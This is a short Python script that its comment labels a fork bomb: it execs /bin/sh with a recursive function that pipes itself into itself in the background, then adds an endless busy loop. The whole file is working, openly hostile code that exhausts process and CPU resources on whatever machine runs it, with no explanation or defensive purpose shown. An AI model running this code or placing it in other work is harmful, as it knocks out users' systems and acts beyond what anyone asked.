# The fork bomb of the shell.

import os

os.execv("/bin/sh", ["sh", "-c", "f() { f | f & }; f; while :; do :; done"])
